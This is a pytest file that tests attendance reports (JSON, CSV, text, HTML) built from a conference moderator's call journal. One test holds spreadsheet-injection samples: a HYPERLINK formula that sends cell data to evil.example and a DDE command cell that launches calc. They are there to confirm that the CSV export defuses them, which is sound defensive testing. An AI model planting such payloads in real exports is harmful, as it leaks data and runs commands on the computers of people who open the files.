"""The attendance report built from the journal."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from moderator.domain.events import parse_callback
from moderator.store.journal import Journal
from moderator.store.report import ReportError, build_report, render
from moderator.store.report_html import html_report
from tests.forms import CONFERENCE_SID, START, call_sid, form, team_meeting

NOW = datetime(2026, 11, 25, 16, 0, tzinfo=timezone.utc)


@pytest.fixture
def journal(tmp_path: Path) -> Journal:
    journal = Journal.in_dir(tmp_path)
    forms = [*team_meeting(), form("participant-mute", 6, who="Alice", muted=True)]  # a duplicate
    journal.append_callbacks([(NOW, f, parse_callback(f, NOW)) for f in forms])
    action = journal.record_action(NOW, CONFERENCE_SID, call_sid("Alice"), "mute")
    journal.finish_action(action, NOW, ok=True)
    journal.confirm_action(action)
    later = NOW + timedelta(seconds=1, microseconds=123456)  # the journal keeps milliseconds
    dial = journal.record_action(
        later, CONFERENCE_SID, None, "dial-out", params={"to": "+15550001111", "label": "Dana"}
    )
    journal.finish_action(dial, later, ok=True)
    rule = journal.record_action(
        later, CONFERENCE_SID, call_sid("Charles"), "mute", origin="auto-mute"
    )
    journal.finish_action(rule, later, ok=False, error="Twilio says the participant has left")
    yield journal
    journal.close()


def test_json_has_the_documented_shape(journal: Journal) -> None:
    report = json.loads(render(build_report(journal), "json"))
    (conference,) = report["conferences"]
    assert set(conference) == {
        "sid",
        "friendly_name",
        "status",
        "started_at",
        "ended_at",
        "participants",
        "actions",
        "duration_seconds",
        "peak_participants",
        "recordings",
        "last_seen_at",  # where a meeting never seen to end was last seen
        "transcript",  # wave 3: final caption lines
    }
    assert conference["recordings"] == []
    assert conference["transcript"] == []
    assert conference["last_seen_at"] == "2026-11-25T15:00:07Z"
    assert conference["friendly_name"] == "TeamMeeting"
    assert conference["started_at"] == "2026-11-25T15:00:03Z"
    assert conference["ended_at"] is None
    people = {p["label"]: p for p in conference["participants"]}
    assert set(people) == {"Mary", "Alice", "Bob", "Charles"}
    assert set(people["Bob"]) == {
        "call_sid",
        "label",
        "joined_at",
        "left_at",
        "present",
        "muted",
        "hold",
        "number",  # from the voice route (None: the call did not come through it)
        "name",  # the one display name (address book, label, caller name, number, Caller N)
        "talk_seconds",
        "present_seconds",
        "muted_seconds",
    }
    assert people["Bob"]["present"] is False and people["Bob"]["left_at"] == "2026-11-25T15:00:07Z"
    assert people["Alice"]["muted"] is True
    # still running: measured up to the latest callback (sequence 7, at 15:00:07)
    assert people["Bob"]["present_seconds"] == 3.0 and people["Alice"]["muted_seconds"] == 1.0
    assert people["Mary"]["talk_seconds"] == 0.0
    assert conference["duration_seconds"] == 4.0 and conference["peak_participants"] == 4
    action, dial, rule = conference["actions"]
    assert action == {
        "at": "2026-11-25T16:00:00Z",
        "kind": "mute",
        "call_sid": call_sid("Alice"),
        "ok": True,
        "confirmed": True,
        "error": None,
        "by": "host",
        "target": "Alice",
        "coached": None,  # a whisper's: whom the host whispered to
        "text": None,  # an announcement's text
    }
    # UTC to the second, without the journal's milliseconds
    assert dial["at"] == "2026-11-25T16:00:01Z"
    assert (dial["by"], dial["target"], dial["call_sid"]) == ("host", "Dana (+15550001111)", None)
    assert (rule["by"], rule["target"]) == ("auto-mute", "Charles")


def test_filter_by_name_or_sid(journal: Journal) -> None:
    assert len(build_report(journal, "TeamMeeting")["conferences"]) == 1
    assert len(build_report(journal, CONFERENCE_SID)["conferences"]) == 1
    with pytest.raises(ReportError, match="no conference 'Other'"):
        build_report(journal, "Other")


def test_csv_and_text(journal: Journal) -> None:
    csv_text = render(build_report(journal), "csv")
    lines = csv_text.splitlines()
    assert lines[0].startswith("conference_sid,friendly_name,call_sid,label")
    assert len(lines) == 5
    assert lines[0].endswith(
        "present,muted,hold,talk_seconds,present_seconds,muted_seconds,"
        "duration_seconds,peak_participants,recordings,transcript"
    )
    assert any(
        ",Bob," in line and line.endswith("false,false,false,0.0,3.0,0.0,4.0,4,,") for line in lines
    )
    assert "Charles,Charles,,2026-11-25T15:00:05Z," in csv_text  # label, name, number, joined


@pytest.fixture
def berlin(monkeypatch: pytest.MonkeyPatch) -> None:
    """The reader's time zone is UTC+1 (Europe/Berlin in November)."""
    monkeypatch.setenv("TZ", "Europe/Berlin")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_text_names_targets_and_who_acted_in_local_time(journal: Journal, berlin: None) -> None:
    text = render(build_report(journal), "text")
    assert "TeamMeeting" in text and "Charles" in text
    # the conference started 15:00:03 UTC; never seen to end: when it was last seen, not "now"
    assert "in progress since 2026-11-25 16:00:03 CET, last seen at 2026-11-25 16:00:07 CET" in text
    assert "TeamMeeting, 2026-11-25 16:00 CET (" in text  # the heading carries date and time
    assert "4 participants" in text
    assert "17:00:00  mute           Alice                confirmed, by host" in text
    assert "17:00:01  dial-out       Dana (+15550001111)  ok, by host" in text
    assert "everyone" not in text
    assert "Charles              Twilio says the participant has left, by rule auto-mute" in text


def test_door_section_names_callers_and_lists_attempts(journal: Journal) -> None:
    at = START + timedelta(minutes=1)
    for kind, params in (
        ("ask-pin", {"from": "+14155550101", "attempt": "1"}),
        ("wrong-pin", {"from": "+14155550101", "attempt": "1"}),
        ("pin-right", {"from": "+14155550101", "attempt": "2"}),
    ):
        action = journal.record_action(
            at, "TeamMeeting", call_sid("Alice"), kind, origin="door", params=params
        )
        journal.finish_action(action, at, ok=True)
    journal.record_action(at, "TeamMeeting", call_sid("Zed"), "locked-out", origin="door",
                          params={"from": "+14155550199", "name": "Zed"})  # fmt: skip

    journal.record_action(at, "", None, "number-connect", params={"number": "+12025550199"})

    def name_of(number: str | None) -> str | None:
        return {"+14155550101": "Alice Smith"}.get(number or "")

    report = build_report(journal, "TeamMeeting", name_of)
    kinds = [(d["kind"], d["name"], d["detail"].get("attempt")) for d in report["door"]]
    assert kinds == [
        ("ask-pin", "Alice Smith", "1"),
        ("wrong-pin", "Alice Smith", "1"),
        ("pin-right", "Alice Smith", "2"),
        ("locked-out", "Zed", None),
    ]
    people = {p["call_sid"]: p for p in report["conferences"][0]["participants"]}
    assert people[call_sid("Alice")]["number"] == "+14155550101"
    assert people[call_sid("Alice")]["name"] == "Alice Smith"
    text = render(report, "text")
    assert "At the door:" in text
    assert "Alice Smith (+14155550101) entered a wrong PIN (attempt 1), by the door" in text
    assert "Alice Smith" in text.split("At the door:")[0]  # the attendance line is named too


@pytest.mark.parametrize("fmt", ["text", "json", "csv"])
def test_every_format_ends_with_one_newline(journal: Journal, fmt: str) -> None:
    """A report printed in a terminal leaves the shell prompt on a line of its own."""
    out = render(build_report(journal), fmt)
    assert out.endswith("\n") and not out.endswith("\n\n")


def test_csv_cells_are_no_spreadsheet_formulas(tmp_path: Path) -> None:
    journal = Journal.in_dir(tmp_path)
    label = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
    forms = [
        form("participant-join", 1, who=label, friendly_name="@SUM(A1:A9)"),
        form("participant-join", 2, who="+cmd|' /C calc'!A0", friendly_name="@SUM(A1:A9)"),
        form("conference-start", 3, friendly_name="@SUM(A1:A9)"),
    ]
    journal.append_callbacks([(NOW, f, parse_callback(f, NOW)) for f in forms])
    rows = list(csv.reader(io.StringIO(render(build_report(journal), "csv"))))
    journal.close()
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + label in cells and "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_whispers_and_announcements_read_as_the_event_log_shows_them(journal: Journal) -> None:
    """The log says 'Whispering Mary to Alice' and an announcement's text: so do the reports
    (the text and HTML once said only 'whisper Mary' and 'announce the conference')."""
    at = NOW + timedelta(seconds=2)
    for who, kind, params in (
        (call_sid("Mary"), "whisper", {"coaching": "true", "call_sid_to_coach": call_sid("Alice")}),
        (None, "announce", {"text": '<b>Break</b> until 3 & "then" =1+1'}),
        (call_sid("Bob"), "announce", {"text": "Bob, you're next"}),
    ):
        row = journal.record_action(at, CONFERENCE_SID, who, kind, params=params)
        journal.finish_action(row, at, ok=True)
    report = build_report(journal)
    rows = [
        (a["kind"], a["target"], a["coached"], a["text"])
        for a in report["conferences"][0]["actions"]
    ]
    assert rows[-3:] == [
        ("whisper", "Mary", "Alice", None),
        ("announce", None, None, '<b>Break</b> until 3 & "then" =1+1'),
        ("announce", "Bob", None, "Bob, you're next"),
    ]
    text = render(report, "text")
    assert "whisper        Mary                 ok, by host; to Alice" in text
    assert 'announce       everyone             ok, by host; "<b>Break</b> until 3' in text
    assert 'announce       Bob                  ok, by host; "Bob, you\'re next"' in text
    html = html_report(journal)
    assert "<td>whisper to Alice</td><td>Mary</td>" in html
    assert "<td>announce &quot;&lt;b&gt;Break&lt;/b&gt; until 3 &amp;" in html


def test_the_doors_own_records_read_in_words(journal: Journal) -> None:
    """The host's end of a meeting once read 'meeting-ended: Caller' (a start without a live
    meeting 'fresh-start: Caller') and a waiting caller's goodbye 'gone: +1…' in the report;
    the event log says it in words, so does the report."""
    at = NOW + timedelta(seconds=3)
    for who, kind, params in (
        (None, "book-edit", {"number": "+14155550102", "name": "Bob"}),
        (None, "rooms-plan", {"rooms": "2"}),
        ("CA" + "9" * 32, "gone", {"from": "+14155550109"}),
        (None, "meeting-ended", {}),
        (None, "fresh-start", {}),
        (None, "a-kind-without-words", {}),
    ):
        row = journal.record_action(at, "TeamMeeting", who, kind, params=params)
        journal.finish_action(row, at, ok=True)
    text = render(build_report(journal, "TeamMeeting"), "text").split("At the door:")[1]
    assert "the address book entry of Bob was changed, by host" in text
    assert "the breakout rooms were planned (2 rooms), by host" in text
    assert "+14155550109 was told the meeting had ended and hung up, by host" in text
    assert "the meeting was ended, by host" in text
    assert "the console started with no live meeting: the door began afresh, by host" in text
    assert "a-kind-without-words, by host" in text  # no 'Caller' for a row that names nobody
    assert "Caller" not in text and "meeting-ended" not in text and "fresh-start" not in text
